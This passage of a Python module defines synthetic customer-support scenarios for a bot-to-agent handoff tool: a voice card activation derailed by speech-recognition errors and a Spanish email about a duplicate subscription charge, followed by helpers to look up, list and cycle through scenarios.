    "cus-1013", "Ruth Adeyemi", "silver", "2011-07-08", "ruth.adeyemi@example.com", "+1-555-0137"
)
VOICE = Scenario(
    key="voice-asr-errors",
    title="Voice: card activation lost to speech recognition",
    queue="support",
    channel="voice",
    platform="lex-v2",
    flow="ActivateCard",
    note_to_agent="Card ending 4829 to activate. Date of birth NOT verified (recognition failed "
    "twice): verify identity before activating. Noisy line.",
    customer=_person(_RUTH),
    reasons=(
        _r(_K.MISUNDERSTOOD_INTENTS, "3 turns under 0.4 confidence", 3),
        _r(_K.CUSTOMER_REQUEST, "caller asked for a person"),
    ),
    script=(
        _s("Inbound call. Speech recognition confidence shown per turn.", gap=0),
        _b("Hi, thanks for calling. In a few words, tell me why you're calling."),
        _c("I need to activate my new card", "ActivateCard", 0.91, 0.0, 6),
        _b("Sure. Please say the last four digits of the new card."),
        _c("for ate too nein", "FallbackIntent", 0.21, None, 5),
        _b("Sorry, I didn't catch that. Please say or key in the last four digits."),
        _c("four eight two nine", "ActivateCard", 0.64, None, 6),
        _b("Thanks. Now please say your date of birth."),
        _c("mark fifth nineteen sixty to", "FallbackIntent", 0.18, None, 5),
        _b(
            "Sorry, I still didn't get that. Say your date of birth, for example 'July fourth, "
            "nineteen eighty'."
        ),
        _c(
            "march the fifth nineteen sixty two. can I just talk to a person",
            "FallbackIntent",
            0.33,
            -0.3,
            7,
        ),
        _b("I'm having trouble understanding. Let me connect you to an agent."),
    ),
    profile=_RUTH,
    history=(
        _item("ORD-90412", "order", "Replacement debit card ending 4829", "dispatched", 8, 5),
    ),
)

# 14 ─ a Spanish email ───────────────────────────────────────────────────────────
_LUCIA = _profile(
    "cus-1014",
    "Lucía Fernández",
    "standard",
    "2020-02-29",
    "lucia.fernandez@example.com",
    "+34-555-0177",
    language="es",
)
EMAIL = Scenario(
    key="spanish-email-double-charge",
    title="Email (Spanish): charged twice for a subscription",
    queue="billing",
    channel="email",
    platform="copilot-studio",
    flow="Double charge",
    language="es",
    note_to_agent="Customer writes Spanish. Two charges of 12.99 EUR on consecutive days; card "
    "ending 5521 confirmed. Bank statement attached (not processed by the bot). Reply by email.",
    customer=_person(_LUCIA),
    reasons=(
        _r(_K.OTHER, "refund of a duplicate charge needs agent approval", 12.99),
        _r(_K.BOT_FAILURE, "attachment could not be processed", "extracto_bancario.png"),
        _r(_K.MISUNDERSTOOD_INTENTS, "1 turn under 0.4 confidence", 1),
    ),
    script=(
        _c(
            "Asunto: Cobro duplicado en mi suscripción\n\nHola:\n\nEste mes me han cobrado dos "
            "veces la cuota de 12,99 € (los días 3 y 4). Adjunto captura del extracto. Les pido "
            "que me devuelvan uno de los cargos.\n\nUn saludo,\nLucía Fernández\n\n-- \nEnviado "
            "desde mi teléfono",
            "Double charge",
            0.77,
            -0.3,
            0,
        ),
        _s("Attachment received: extracto_bancario.png (212 KB), not processed by the bot."),
        _b(
            "Hola, Lucía. Hemos recibido su mensaje y vemos dos cargos de 12,99 € en su cuenta. "
            "Para revisar el reembolso, ¿puede confirmar los últimos 4 dígitos de la tarjeta?",
            gap=40,
        ),
        _c(
            "> ¿puede confirmar los últimos 4 dígitos de la tarjeta?\n\nSon 5521. ¿Cuándo me "
            "devolverán el dinero?",
            "Fallback",
            0.35,
            -0.2,
            3 * 3600,
        ),
        _b("Gracias. Un agente revisará el cargo duplicado y le responderá por correo.", gap=30),
    ),
    profile=_LUCIA,
    history=(_item("SUB-77120", "subscription", "Streaming Plus, 12,99 €/mes", "active", 300),),
)

SCENARIOS: tuple[Scenario, ...] = (
    BILLING,
    FRAUD,
    PASSWORD,
    PARCEL,
    HEALTH,
    PAYMENT,
    ANGRY,
    REPEAT,
    GERMAN,
    LONG,
    HOSTILE,
    NO_CRM,
    VOICE,
    EMAIL,
)


def by_key(key: str) -> Scenario:
    """The scenario called `key`; KeyError if there is none."""
    for scenario in SCENARIOS:
        if scenario.key == key:
            return scenario
    raise KeyError(key)


def customers() -> list[tuple[core.Profile, tuple[core.HistoryItem, ...]]]:
    """Every CRM record the scenarios refer to, with its history, for loading into the hub."""
    seen: dict[str, tuple[core.Profile, tuple[core.HistoryItem, ...]]] = {}
    for scenario in SCENARIOS:
        if scenario.profile is not None:
            seen.setdefault(scenario.profile.id, (scenario.profile, scenario.history))
    return list(seen.values())


def scenario_cycle(
    start: int = 0,
    *,
    scenarios: Sequence[Scenario] = SCENARIOS,
) -> Iterator[tuple[int, Scenario]]:
    """Yield `(seq, scenario)` forever: seq counts up from `start`, scenarios go round-robin
    from the first one."""
    if not scenarios:
        raise ValueError("no scenarios to cycle through")
    for index in count():
        yield start + index, scenarios[index % len(scenarios)]
